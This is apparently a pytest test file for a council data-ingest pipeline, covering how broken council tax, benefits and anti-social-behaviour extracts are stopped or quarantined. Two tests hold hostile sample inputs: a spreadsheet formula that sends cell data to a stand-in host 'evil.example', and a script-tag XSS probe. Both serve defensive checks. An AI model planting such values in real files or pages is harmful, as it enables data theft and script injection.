"""The catalogue of bad input: each kind of broken delivery, with the exact outcome asserted
(which rule, quarantine or stop, and the message a data officer reads)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import date
from pathlib import Path

import duckdb
import pytest

from riskflag.config import load_config
from riskflag.errors import ConfigError
from riskflag.ingest.pipeline import validate_council
from riskflag.ingest.readers import _masked
from tests.conftest import council_config

AS_OF = date(2026, 10, 31)
CT_HEADER = [
    "ACCOUNT_REF",
    "PROPERTY_REF",
    "LIABLE_NAME_1",
    "LIABLE_DOB_1",
    "LIABLE_NAME_2",
    "BALANCE_DATE",
    "ARREARS",
    "RECOVERY_STAGE",
    "SPD",
    "CTR_WEEKLY",
    "ACC_START",
    "ACC_END",
]
BEN_HEADER = [
    "CLAIM_REF",
    "EVENT_TYPE",
    "EVENT_DATE",
    "CLMT_FORENAME",
    "CLMT_SURNAME",
    "CLMT_DOB",
    "CLMT_NINO",
    "PTNR_FORENAME",
    "PTNR_SURNAME",
    "PTNR_DOB",
    "PTNR_NINO",
    "ADDRESS",
    "POSTCODE",
    "UPRN",
    "HB_WEEKLY",
    "CTR_WEEKLY",
    "UC_FLAG",
    "NUM_DEPENDANTS",
    "DISABILITY_PREMIUM",
    "ENTRY_DATE",
]
ASB_HEADER = [
    "INCIDENT_REF",
    "INCIDENT_DATE",
    "LOCATION_TEXT",
    "POSTCODE",
    "CATEGORY",
    "ROLE",
    "RECORDED_DATE",
]
HC_HEADER = [
    "CASE_ID",
    "APPROACH_DATE",
    "APP_FORENAME",
    "APP_SURNAME",
    "APP_DOB",
    "APP_NINO",
    "LAST_SETTLED_ADDRESS",
    "LAST_SETTLED_POSTCODE",
    "INITIAL_DUTY",
    "REASON_LOSS",
    "HOUSEHOLD_TYPE",
    "SEX",
    "ETHNICITY",
    "DISABILITY",
    "OUTCOME",
    "CLOSE_DATE",
    "RECORD_UPDATED",
]


def _row(header: list[str], values: list[str], kw: dict[str, str]) -> dict[str, str]:
    return dict(zip(header, values, strict=True)) | kw


# fmt: off
def ct_row(i: int, balance: str = "31/10/2026", **kw: str) -> dict[str, str]:
    return _row(CT_HEADER, [f"9{i:08d}", f"1000{i:08d}", f"SMITH, John{i}", "01/02/1980", "", balance,
                            "12.50", "REM", "N", "3.10", "01/11/2015", ""], kw)


def ben_row(i: int, **kw: str) -> dict[str, str]:
    return _row(BEN_HEADER, [f"HB{i:08d}", "NEWCLAIM", "2026-10-20", "Ann", f"Jones{i}", "1985-03-04",
                             "AB123456C", "", "", "", "", "1 High Street, Ashworth", "AW1 2AB", "", "50.00",
                             "10.00", "Y", "1", "N", "2026-10-21"], kw)


def asb_row(i: int, **kw: str) -> dict[str, str]:
    return _row(ASB_HEADER, [f"ASB{i:07d}", "03/10/2026", "10 Thornhill St", "AW1 3CD", "NOISE", "V",
                             "04/10/2026"], kw)


def hc_row(i: int, **kw: str) -> dict[str, str]:
    return _row(HC_HEADER, [f"HC{i:07d}", "01/09/2026", "Sam", f"Lee{i}", "02/02/1990", "",
                            "3 Low Road, Ashworth", "AW1 4EF", "PREV", "ENDAST", "SGL", "M", "WBRI", "N",
                            "", "", "01/09/2026"], kw)
# fmt: on


class Council:
    """A folder of deliveries for a few sources, a config that maps them, and a way to validate."""

    def __init__(self, root: Path, only: tuple[str, ...], **overrides: dict) -> None:
        self.root = root
        self.extracts = root / "extracts"
        self.cfg_path = council_config(self.extracts, root / "out", only=only, **overrides)

    def write(
        self,
        source: str,
        name: str,
        rows: list[dict] | None = None,
        header: list[str] | None = None,
        encoding: str = "utf-8",
        delimiter: str = ",",
        raw: bytes | None = None,
    ) -> Path:
        path = self.extracts / source / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if raw is None:
            rows = rows or []
            header = header or list(rows[0])
            buf = io.StringIO()
            w = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
            w.writerow(header)
            for r in rows:
                w.writerow([r.get(h, "") for h in header])
            raw = buf.getvalue().encode(encoding)
        path.write_bytes(raw)
        return path

    def validate(self, as_of: date = AS_OF):
        run, paths = validate_council(load_config(self.cfg_path), as_of)
        self.paths = paths
        return run

    def quarantine(self) -> list[tuple]:
        con = duckdb.connect(str(self.root / "out" / "runs" / "warehouse.duckdb"), read_only=True)
        try:
            return con.execute(
                'SELECT name, "row", field, rule, value FROM quarantine ORDER BY ALL'
            ).fetchall()
        finally:
            con.close()

    def history(self, source: str, sql: str = "*") -> list[tuple]:
        con = duckdb.connect(str(self.root / "out" / "runs" / "warehouse.duckdb"), read_only=True)
        try:
            return con.execute(
                f"SELECT {sql} FROM history_{source}" + ("" if "count(" in sql else " ORDER BY _file, _row")
            ).fetchall()
        finally:
            con.close()


def delivery(run, source: str, name: str | None = None):
    s = next(s for s in run.sources if s.source == source)
    return s.deliveries[-1] if name is None else next(d for d in s.deliveries if d.name.endswith(name))


def csv_text(rows: list[dict]) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(list(rows[0]))
    w.writerows([list(r.values()) for r in rows])
    return buf.getvalue()


def good_ct(n: int = 30, balance: str = "31/10/2026") -> list[dict]:
    return [ct_row(i, balance) for i in range(1, n + 1)]


@pytest.fixture
def ct(tmp_path: Path) -> Council:
    return Council(tmp_path, ("council_tax",))


# --- stops: the whole delivery ------------------------------------------------------------


def test_wrong_encoding_utf8_file_for_a_windows_1252_source(ct: Council) -> None:
    ct.write(
        "council_tax", "council_tax_2026-10-31.csv", [*good_ct(), ct_row(99, LIABLE_NAME_1="JOSÉ, María")]
    )
    run = ct.validate()
    d = delivery(run, "council_tax")
    assert (d.status, d.rule) == ("stopped", "wrong_encoding")
    assert "the file is UTF-8 but the config says encoding cp1252" in d.message
    assert run.status == "stopped"


def test_bom_on_a_utf8_source_is_ignored_with_a_note(tmp_path: Path) -> None:
    c = Council(tmp_path, ("asb_incidents",))
    buf = "|".join(ASB_HEADER) + "\n" + "|".join(asb_row(1).values()) + "\n"
    c.write("asb_incidents", "asb_incidents_2026-10-31.csv", raw=b"\xef\xbb\xbf" + buf.encode())
    d = delivery(c.validate(), "asb_incidents")
    assert d.status == "accepted" and d.rows_accepted == 1
    assert d.notes == ["a UTF-8 byte-order mark was found and ignored"]


def test_bom_on_a_windows_1252_source_stops(ct: Council) -> None:
    ct.write(
        "council_tax", "council_tax_2026-10-31.csv", raw=b"\xef\xbb\xbf" + csv_text([ct_row(1)]).encode()
    )
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "wrong_encoding")
    assert "set the source's encoding to utf-8-sig" in d.message


def test_missing_column_stops_and_names_the_config_key(ct: Council) -> None:
    header = [h for h in CT_HEADER if h != "SPD"]
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), header=header, encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "missing_column")
    assert d.message == (
        "column 'SPD' is missing from the file. The config maps it to 'single_person_discount' "
        "(council.yaml: sources.council_tax.columns.single_person_discount)"
    )
    assert d.rows_held == d.rows_read == 30


def test_extra_column_is_ignored_with_a_note(ct: Council) -> None:
    rows = [r | {"NEW_FLAG": "x"} for r in good_ct()]
    ct.write(
        "council_tax", "council_tax_2026-10-31.csv", rows, header=[*CT_HEADER, "NEW_FLAG"], encoding="cp1252"
    )
    d = delivery(ct.validate(), "council_tax")
    assert d.status == "accepted" and d.rows_accepted == 30
    assert d.notes == ["column 'NEW_FLAG' is not in the config's mapping and was ignored"]


def test_renamed_column_stops_with_the_likely_new_name(ct: Council) -> None:
    rows = [{("ARREARS_AMT" if k == "ARREARS" else k): v for k, v in r.items()} for r in good_ct()]
    ct.write("council_tax", "council_tax_2026-10-31.csv", rows, encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "renamed_column")
    assert (
        "column 'ARREARS' is missing from the file; the file has 'ARREARS_AMT' instead (renamed?)"
        in d.message
    )


def test_config_mapping_a_column_the_file_lacks(tmp_path: Path) -> None:
    c = Council(tmp_path, ("council_tax",))
    raw = c.cfg_path.read_text().replace("arrears: ARREARS", "arrears: ARREAR")
    c.cfg_path.write_text(raw)
    c.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    d = delivery(c.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "renamed_column")
    assert "column 'ARREAR' is missing from the file; the file has 'ARREARS' instead" in d.message
    assert "sources.council_tax.columns.arrears" in d.message


def test_wrong_delimiter_stops(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), delimiter=";", encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "wrong_delimiter")
    assert "looks semicolon-delimited but the config says delimiter ','" in d.message


def test_empty_file_stops(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", raw=b"")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule, d.message) == (
        "stopped",
        "empty_file",
        "the file is empty (0 bytes); ask the system owner to send it again",
    )


def test_header_only_snapshot_stops_but_header_only_delta_is_a_quiet_night(tmp_path: Path) -> None:
    c = Council(tmp_path, ("council_tax", "benefits"))
    c.write("council_tax", "council_tax_2026-10-31.csv", [], header=CT_HEADER)
    c.write("benefits", "benefits_2026-10-30.csv", [ben_row(1)], encoding="cp1252")
    c.write("benefits", "benefits_2026-10-31.csv", [], header=BEN_HEADER)
    run = c.validate()
    d = delivery(run, "council_tax")
    assert (d.status, d.rule) == ("stopped", "no_rows")
    b = delivery(run, "benefits", "benefits_2026-10-31.csv")
    assert (b.status, b.rows_read, b.rows_accepted) == ("accepted", 0, 0)
    assert next(s for s in run.sources if s.source == "benefits").status == "ok"


def test_truncated_last_line_stops(ct: Council) -> None:
    body = csv_text(good_ct())
    ct.write("council_tax", "council_tax_2026-10-31.csv", raw=(body + '"900000031","10000003').encode())
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "truncated_file")
    assert "the extract was cut off" in d.message


def test_not_a_csv_file_stops(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", raw=b"PK\x03\x04" + b"\x00" * 100)
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "not_a_csv")
    assert "zip archive" in d.message


def test_a_file_that_is_another_sources_extract_stops(tmp_path: Path) -> None:
    ct = Council(tmp_path, ("council_tax", "rent_accounts"))
    header = [
        "TENANCY_REF",
        "UPRN",
        "TENANT1_FORENAME",
        "TENANT1_SURNAME",
        "TENANT1_DOB",
        "TENANT2_FORENAME",
        "TENANT2_SURNAME",
        "TENANT2_DOB",
        "TENANCY_TYPE",
        "TENANCY_START",
        "TENANCY_END",
        "WEEKLY_RENT",
        "ARREARS_BAL",
        "NOSP_DATE",
        "POSS_ORDER_DATE",
        "EVICTION_DATE",
        "SNAPSHOT_DATE",
    ]
    ct.write("council_tax", "council_tax_2026-10-31.csv", [dict.fromkeys(header, "1")], encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "wrong_file")
    assert "this is not a council_tax extract: its header matches the rent_accounts extract" in d.message


def test_stale_extract_fails_the_source_and_stops_the_run(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-08-31.csv", good_ct(balance="31/08/2026"), encoding="cp1252")
    run = ct.validate()
    s = run.sources[0]
    assert delivery(run, "council_tax").status == "accepted"
    assert s.status == "failed" and run.status == "stopped"
    assert s.message == (
        "stale: the newest accepted delivery is from 2026-08-31, 61 days before 2026-10-31; "
        "the contract allows 45"
    )


def test_volume_collapse_stops_the_delivery(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-09-30.csv", good_ct(40, "30/09/2026"), encoding="cp1252")
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(4), encoding="cp1252")
    run = ct.validate()
    d = delivery(run, "council_tax", "2026-10-31.csv")
    assert (d.status, d.rule) == ("stopped", "volume_out_of_bounds")
    assert d.message.startswith("4 rows per snapshot date against 40 in the last accepted delivery (10%)")
    assert delivery(run, "council_tax", "2026-09-30.csv").status == "accepted"


def test_too_many_broken_rows_stop_the_delivery(ct: Council) -> None:
    rows = good_ct(40)
    for r in rows[:12]:
        r["ARREARS"] = "lots"
    ct.write("council_tax", "council_tax_2026-10-31.csv", rows, encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rule) == ("stopped", "too_many_rejects")
    assert d.message == (
        "12 of 40 rows (30.0%) broke the contract, more than the 5% allowed; most often arrears: not_a_number"
    )
    assert (d.rows_accepted, d.rows_quarantined, d.rows_held) == (0, 12, 28)


def test_unreachable_sql_source_stops_with_the_url_masked(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/no/such/folder/cases.db"
    c = Council(
        tmp_path,
        ("asb_incidents",),
        asb_incidents={"format": "sql", "url": url, "query": "SELECT * FROM asb"},
    )
    d = delivery(c.validate(), "asb_incidents")
    assert (d.status, d.rule) == ("stopped", "source_unreachable")
    assert d.message.startswith(f"cannot run the query on {url}: unable to open database file")
    assert (
        _masked("postgresql://riskflag:s3cret@db.council.local/revs")
        == "postgresql://riskflag:***@db.council.local/revs"
    )


def test_non_critical_source_failing_degrades_the_run(tmp_path: Path) -> None:
    c = Council(tmp_path, ("council_tax", "asb_incidents"))
    c.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    c.write("asb_incidents", "asb_incidents_2026-10-31.csv", raw=b"")
    run = c.validate()
    assert run.status == "degraded" and run.excluded == ["asb_incidents"]
    report = json.loads(c.paths["validation.json"].read_text())
    assert report["status"] == "degraded" and report["excluded_sources"] == ["asb_incidents"]


def test_a_large_delivery_is_loaded_whole(ct: Council) -> None:
    """More rows than a DuckDB row group (122,880): the staging table once read back empty."""
    n = 150_000
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(n), encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rows_read, d.rows_accepted, d.rows_quarantined) == ("accepted", n, n, 0)
    assert ct.history("council_tax", "count(*), count(DISTINCT _row), min(_row), max(_row)") == [(n, n, 1, n)]


# --- re-deliveries ---------------------------------------------------------------------------


def test_identical_redelivery_is_a_no_op(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    assert delivery(ct.validate(), "council_tax").status == "accepted"
    again = ct.validate()
    assert again.sources[0].deliveries == [] and again.sources[0].unchanged == 1
    ct.write("council_tax", "council_tax_2026-10-31_resent.csv", good_ct(), encoding="cp1252")
    d = delivery(ct.validate(), "council_tax")
    assert d.status == "already_loaded"
    assert d.message == "identical to council_tax/council_tax_2026-10-31.csv, accepted earlier: nothing to do"
    assert len(ct.history("council_tax")) == 30


def test_identical_file_twice_in_one_run_is_loaded_once(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    ct.write("council_tax", "council_tax_2026-10-31_resent.csv", good_ct(), encoding="cp1252")
    first, second = ct.validate().sources[0].deliveries
    assert (first.status, first.rows_accepted) == ("accepted", 30)
    assert (second.status, second.rows_read) == ("already_loaded", 0)
    assert second.message == (
        "identical to council_tax/council_tax_2026-10-31.csv, accepted earlier: nothing to do"
    )
    assert len(ct.history("council_tax")) == 30


def test_nothing_new_keeps_the_last_delivery_while_fresh(ct: Council) -> None:
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    ct.validate()
    later = ct.validate(date(2026, 11, 20))
    assert later.status == "ok" and later.sources[0].latest == date(2026, 10, 31)
    assert ct.validate(date(2026, 12, 31)).status == "stopped"


# --- row-level quarantine --------------------------------------------------------------------


def _one_bad(ct: Council, **change: str) -> list[tuple]:
    rows = good_ct()
    rows[4] = rows[4] | change
    ct.write("council_tax", "council_tax_2026-10-31.csv", rows, encoding="cp1252")
    run = ct.validate()
    d = delivery(run, "council_tax")
    assert d.status == "accepted" and (d.rows_accepted, d.rows_quarantined) == (29, 1)
    return ct.quarantine()


def test_duplicated_rows_are_quarantined(ct: Council) -> None:
    rows = good_ct()
    ct.write("council_tax", "council_tax_2026-10-31.csv", [*rows[:3], rows[1], *rows[3:]], encoding="cp1252")
    assert ct.validate().sources[0].deliveries[0].rows_quarantined == 1
    assert ct.quarantine() == [
        ("council_tax/council_tax_2026-10-31.csv", 4, "", "duplicate_row", "the same as row 2")
    ]


def test_future_dates_are_quarantined(ct: Council) -> None:
    assert _one_bad(ct, ACC_START="01/01/2027") == [
        (
            "council_tax/council_tax_2026-10-31.csv",
            5,
            "account_start",
            "after_delivery_date",
            "01/01/2027 is after the delivery date 2026-10-31",
        )
    ]


def test_text_in_a_numeric_column(ct: Council) -> None:
    assert _one_bad(ct, CTR_WEEKLY="n/a") == [
        ("council_tax/council_tax_2026-10-31.csv", 5, "ctr_weekly", "not_a_number", "n/a")
    ]


def test_negative_arrears_are_out_of_range(ct: Council) -> None:
    assert _one_bad(ct, ARREARS="-5.00")[0][2:] == ("arrears", "out_of_range", "-5.00")


def test_unmapped_code_is_quarantined_with_the_code_named(ct: Council) -> None:
    assert _one_bad(ct, RECOVERY_STAGE="XX9")[0][2:] == ("recovery_stage", "unmapped_code", "XX9")


def test_very_long_field(ct: Council) -> None:
    q = _one_bad(ct, LIABLE_NAME_1="A" * 5000)
    assert q[0][2:4] == ("liable_name_1", "too_long")


def test_missing_required_field(ct: Council) -> None:
    assert _one_bad(ct, ACCOUNT_REF="")[0][2:] == ("account_ref", "required", None)


def test_row_with_the_wrong_number_of_fields(ct: Council) -> None:
    lines = csv_text(good_ct()).splitlines(keepends=True)
    lines[3] = lines[3].rstrip("\n") + ",extra\n"
    ct.write("council_tax", "council_tax_2026-10-31.csv", raw="".join(lines).encode())
    d = delivery(ct.validate(), "council_tax")
    assert (d.status, d.rows_accepted, d.rows_quarantined) == ("accepted", 29, 1)
    _, row, field, rule, value = ct.quarantine()[0]
    assert (row, field, rule) == (3, "", "wrong_field_count")
    assert value.startswith('13 fields where the header has 12: 900000003,100000000003,"SMITH, John3"')


def test_formula_injection_is_quarantined_and_never_reaches_a_csv_unescaped(ct: Council) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    q = _one_bad(ct, LIABLE_NAME_2=evil)
    assert q[0][2:] == ("liable_name_2", "formula_like_text", evil)
    text = ct.paths["quarantine.csv"].read_text()
    cells = [row[-1] for row in csv.reader(io.StringIO(text))][1:]
    assert cells and all(not c.startswith(("=", "+", "@", "-")) for c in cells)
    assert cells == [f"'=… ({len(evil)} characters)"]


def test_html_report_escapes_every_value(tmp_path: Path) -> None:
    c = Council(tmp_path, ("asb_incidents",))
    rows = [asb_row(i) for i in range(1, 30)]
    rows[2]["CATEGORY"] = "<script>alert(1)</script>"
    c.write("asb_incidents", "asb_incidents_2026-10-31.csv", rows, delimiter="|")
    c.validate()
    html = c.paths["validation.html"].read_text()
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# --- realistic faults pass, standardised ------------------------------------------------------


def test_money_with_symbols_and_separators_and_mixed_date_formats(ct: Council) -> None:
    rows = good_ct()
    rows[0] |= {"ARREARS": "£1,234.50", "ACC_START": "2015-11-01"}
    rows[1] |= {"ARREARS": " 7.5 ", "ACC_START": "01-Nov-2015"}
    ct.write("council_tax", "council_tax_2026-10-31.csv", rows, encoding="cp1252")
    assert delivery(ct.validate(), "council_tax").rows_accepted == 30
    got = ct.history("council_tax", "arrears, arrears__raw, account_start")[:2]
    assert [(str(a), r, s.isoformat()) for a, r, s in got] == [
        ("1234.50", "£1,234.50", "2015-11-01"),
        ("7.50", " 7.5 ", "2015-11-01"),
    ]


def test_postcodes_and_ni_numbers_are_standardised_and_checked(tmp_path: Path) -> None:
    c = Council(tmp_path, ("benefits",))
    rows = [ben_row(i) for i in range(1, 40)]
    rows[0] |= {"POSTCODE": "aw12ab", "CLMT_NINO": "ab 12 34 56 c"}
    rows[1] |= {"POSTCODE": "AW1"}
    rows[2] |= {"CLMT_NINO": "AB12345"}
    c.write("benefits", "benefits_2026-10-31.csv", rows, encoding="cp1252")
    d = delivery(c.validate(), "benefits")
    assert (d.rows_accepted, d.rows_quarantined) == (37, 2)
    assert [q[1:] for q in c.quarantine()] == [
        (2, "postcode", "pattern", "AW1"),
        (3, "claimant_nino", "pattern", "AB12345"),
    ]
    first = c.history("benefits", "postcode, postcode__raw, claimant_nino")[0]
    assert first == ("AW1 2AB", "aw12ab", "AB123456C")


def test_date_of_birth_after_the_record_is_quarantined(tmp_path: Path) -> None:
    c = Council(tmp_path, ("benefits",))
    rows = [ben_row(i) for i in range(1, 40)]
    rows[5] |= {"CLMT_DOB": "2026-10-25"}
    c.write("benefits", "benefits_2026-10-31.csv", rows, encoding="cp1252")
    c.validate()
    assert [q[1:] for q in c.quarantine()] == [
        (6, "claimant_dob", "after_entry_date", "2026-10-25 is after entry_date 2026-10-21")
    ]


def test_bytes_that_are_not_utf8_in_a_name(tmp_path: Path) -> None:
    c = Council(tmp_path, ("asb_incidents",))
    body = "|".join(ASB_HEADER) + "\n" + "".join("|".join(asb_row(i).values()) + "\n" for i in range(1, 200))
    body = body.replace("10 Thornhill St", "10 Thornhill St\udcff", 1).encode(
        "utf-8", errors="surrogateescape"
    )
    c.write("asb_incidents", "asb_incidents_2026-10-31.csv", raw=body)
    d = delivery(c.validate(), "asb_incidents")
    assert (d.status, d.rows_accepted, d.rows_quarantined) == ("accepted", 198, 1)
    assert c.quarantine()[0][1:4] == (1, "LOCATION_TEXT", "invalid_encoding")


def test_a_file_mostly_in_another_encoding_stops(tmp_path: Path) -> None:
    c = Council(tmp_path, ("asb_incidents",))
    rows = [asb_row(i, LOCATION_TEXT="Café Row") for i in range(1, 50)]
    c.write("asb_incidents", "asb_incidents_2026-10-31.csv", rows, delimiter="|", encoding="cp1252")
    d = delivery(c.validate(), "asb_incidents")
    assert (d.status, d.rule) == ("stopped", "wrong_encoding")
    assert d.message.startswith(
        "49 of 49 rows hold bytes that are not utf-8 (first: row 1, column LOCATION_TEXT)"
    )


# --- other formats -------------------------------------------------------------------------------


def test_parquet_excel_and_sql_deliveries_are_read(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq
    from openpyxl import Workbook

    rows = [asb_row(i) for i in range(1, 6)]
    pq_dir = tmp_path / "p" / "extracts" / "asb_incidents"
    pq_dir.mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows), pq_dir / "asb_incidents_2026-10-31.parquet")
    p = Council(
        tmp_path / "p",
        ("asb_incidents",),
        asb_incidents={"format": "parquet", "path": "asb_incidents/*.parquet"},
    )
    assert delivery(p.validate(), "asb_incidents").rows_accepted == 5

    wb = Workbook()
    ws = wb.active
    ws.append(ASB_HEADER)
    for r in rows:
        ws.append(list(r.values()))
    x_dir = tmp_path / "x" / "extracts" / "asb_incidents"
    x_dir.mkdir(parents=True)
    wb.save(x_dir / "asb_incidents_2026-10-31.xlsx")
    x = Council(
        tmp_path / "x", ("asb_incidents",), asb_incidents={"format": "excel", "path": "asb_incidents/*.xlsx"}
    )
    assert delivery(x.validate(), "asb_incidents").rows_accepted == 5

    db = tmp_path / "asb.db"
    with sqlite3.connect(db) as con:
        con.execute(f"CREATE TABLE asb ({', '.join(ASB_HEADER)})")
        con.executemany(
            f"INSERT INTO asb VALUES ({', '.join('?' * len(ASB_HEADER))})", [list(r.values()) for r in rows]
        )
    s = Council(
        tmp_path / "s",
        ("asb_incidents",),
        asb_incidents={"format": "sql", "url": f"sqlite:///{db}", "query": "SELECT * FROM asb"},
    )
    run = s.validate()
    assert delivery(run, "asb_incidents").rows_accepted == 5
    assert delivery(s.validate(), "asb_incidents").status == "already_loaded"


def test_config_mapping_onto_a_value_the_contract_lacks_is_a_config_error(tmp_path: Path) -> None:
    c = Council(tmp_path, ("council_tax",))
    c.cfg_path.write_text(c.cfg_path.read_text().replace("LO: liability_order", "LO: liability"))
    with pytest.raises(
        ConfigError, match=r"sources.council_tax.values.recovery_stage.LO: 'liability' is not one of"
    ):
        c.validate()


def test_rows_not_accounted_for_stop_the_run_instead_of_passing(
    ct: Council, monkeypatch: pytest.MonkeyPatch
) -> None:
    from riskflag.ingest.validate import SourceRun

    monkeypatch.setattr(SourceRun, "_append", lambda self, *a: None)  # as if accepted rows were lost
    ct.write("council_tax", "council_tax_2026-10-31.csv", good_ct(), encoding="cp1252")
    run = ct.validate()
    d = delivery(run, "council_tax")
    assert (d.status, d.rule) == ("stopped", "rows_not_conserved")
    assert d.message.startswith("30 rows read but 0 accepted, 0 quarantined and 0 held")
    assert d.conserved and run.status == "stopped"
